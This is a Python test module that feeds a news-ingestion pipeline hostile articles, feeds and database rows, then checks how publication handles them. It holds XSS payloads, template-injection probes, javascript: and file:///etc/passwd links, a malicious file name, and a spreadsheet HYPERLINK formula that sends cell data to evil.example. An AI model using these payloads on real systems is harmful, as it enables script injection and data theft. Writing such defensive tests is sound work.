"""Articles and feeds that attack whoever looks at them, and the reports of a pipeline that has taken them in."""

import json
from datetime import date, datetime
from pathlib import Path

import pytest

from ingest import pipeline
from ingest.errors import PublicationBlocked
from ingest.replay import replay_folder
from ingest.settings import Settings, read_settings

DAYS = (date(2026, 3, 5), date(2026, 3, 6), date(2026, 3, 7))
ATTACK = (
    "</td></script></style><script>document.title='PWNED';alert(1)</script>"
    '<img src="https://evil.example/x.png" onerror="document.title=\'PWNED\';alert(2)">'
    "<svg onload=alert(3)><a href=\"javascript:alert(4)\" onclick='alert(5)'>click</a>"
    "<iframe src=https://evil.example></iframe>${7*7} {{ 7*7 }} {% raw %} {batch} $x"
)
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")'
_BODY = (
    "PT Contoh {name} Rekaan akan menanamkan US${amount} juta untuk pabrik di Batam, kata direkturnya. {attack} "
    "The Federal Trade Commission fined Pinewell Loans $5 million on Monday. {attack}"
)
_NAMES = ("Baja", "Kaca", "Semen", "Karet", "Kertas", "Garam")
_ITEM = """<item><title><![CDATA[{title}]]></title><link>{link}</link><guid isPermaLink="false">{number}</guid>
<description><![CDATA[{body}]]></description></item>"""


def make_reports(folder: Path) -> Settings:
    """Run the pipeline on hostile inputs: two days are published, with rows held back, and the third is stopped."""
    settings = read_settings({"INGEST_DATA_DIR": str(folder / "data")})
    settings.inbox.mkdir(parents=True)
    for number in range(3):
        _drop_articles(settings.inbox, number)
        now = datetime.combine(DAYS[number], datetime.min.time().replace(hour=9 + number))
        _load(settings, now)
        if number == 0:
            _replay_feed(settings, folder / "feeds", now)
        _spoil(settings, number)
        if number < 2:
            pipeline.publish(settings, DAYS[number], now)
    with pytest.raises(PublicationBlocked):
        pipeline.publish(settings, DAYS[2], datetime(2026, 3, 7, 12))  # noqa: DTZ001
    return settings


def _drop_articles(inbox: Path, number: int) -> None:
    links = ("javascript:alert(6)", 'https://example.com/" onmouseover="alert(7)', "data:text/html,<script>alert(8)")
    lines = [
        {
            "id": f"{number}-{place}",
            "title": f"{number} {place} {title} menanamkan US$50 juta",
            "body": _BODY.format(attack=ATTACK, name=_NAMES[place], amount=200 + 10 * number + place),
            "published_at": f"2026-03-0{5 + number}T01:00:00Z",
            "url": link,
            "publisher": ATTACK[:180],
            "lang": "id",
        }
        for place, (title, link) in enumerate(zip((ATTACK, FORMULA, "@SUM(1)"), links, strict=True))
    ]
    text = "\n".join(json.dumps(line) for line in lines) + "\n"
    (inbox / f"<img src=x onerror=alert(9)>{number}.jsonl").write_text(text, encoding="utf-8")


def _load(settings: Settings, now: datetime) -> None:
    from ingest.intake.scan import SETTLE, wait_until_ready

    pipeline.migrate(settings)
    wait_until_ready(settings.inbox, 2 * SETTLE)
    shards = [pipeline.extract_chunk(settings, names, "hostile") for names in pipeline.discover(settings)]
    assert pipeline.load(settings, shards, now)["stored"] >= 1


def _replay_feed(settings: Settings, folder: Path, now: datetime) -> None:
    items = "".join(
        _ITEM.format(
            title=f"{ATTACK} {number}",
            link=link,
            number=number,
            body=_BODY.format(attack=ATTACK, name=_NAMES[number + 3], amount=300 + number),
        )
        for number, link in enumerate(("javascript:alert(10)", "https://example.com/feed/1", "file:///etc/passwd"))
    )
    folder.mkdir()
    (folder / "hostile.xml").write_text(
        f'<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[{ATTACK}]]></title>{items}</channel></rss>',
        encoding="utf-8",
    )
    assert replay_folder(settings, folder, now)["balanced"]


def _spoil(settings: Settings, number: int) -> None:
    """Write what a broken reader might: attacks in every column that is shown, in rows that rules find."""
    with pipeline.open_live(settings) as con:
        con.execute(
            "UPDATE investment_mentions SET investor = ?, target = ?, country = ? WHERE article_id IN"
            " (SELECT article_id FROM articles WHERE ingested_at::DATE = ? ORDER BY article_id LIMIT 1)",
            [ATTACK, FORMULA, ATTACK, DAYS[number]],
        )
        con.execute(
            "UPDATE investment_mentions SET investor = ?, target = ? WHERE country IS DISTINCT FROM ?",
            [ATTACK, FORMULA, ATTACK],
        )
        con.execute("UPDATE regulatory_mentions SET regulator = ?, subjects = [?]", [ATTACK, ATTACK])
        con.execute(
            "INSERT OR IGNORE INTO feeds (feed_id, url, publisher, state, errors_in_row, quiet_factor, last_reason,"
            " last_fetch_at, fetches, entries_new, entries_rejected) VALUES (?, ?, ?, 'active', 1, 1, ?, now()::TIMESTAMP, 1, 0, 0)",
            ["f_hostile", "javascript:alert(11)", ATTACK, ATTACK],
        )
        con.execute(
            "UPDATE articles SET language = ?, url = 'javascript:alert(12)' WHERE article_id = (SELECT max(article_id) FROM articles)",
            [ATTACK],
        )
        if number == 2:  # too large a share held back stops the publication
            con.execute("UPDATE money_mentions SET currency = ?, text = ?", [ATTACK, ATTACK])
